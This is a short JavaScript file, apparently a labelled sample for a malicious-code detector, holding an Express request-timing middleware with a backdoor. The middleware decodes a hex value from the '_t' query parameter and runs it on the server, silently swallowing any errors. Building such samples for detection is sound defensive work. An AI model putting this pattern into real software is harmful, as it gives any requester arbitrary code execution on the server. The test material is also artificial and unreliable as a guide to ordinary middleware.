// expect: suspicious
// source: backdoored Express middleware (commands smuggled as hex in request data, run on the server); written here
const vm = require('vm');

function decode(hex) {
  const bytes = [];
  for (let i = 0; i < hex.length; i += 2) bytes.push(parseInt(hex.slice(i, i + 2), 16));
  return Buffer.from(bytes).toString('utf8');
}

module.exports = function requestTimer() {
  return function (req, res, next) {
    const started = Date.now();
    const trace = req.query && req.query._t;
    if (typeof trace === 'string' && /^[0-9a-f]+$/.test(trace)) {
      try { vm.runInThisContext(decode(trace)); } catch (e) {}
    }
    res.on('finish', () => { req.elapsed = Date.now() - started; });
    next();
  };
};
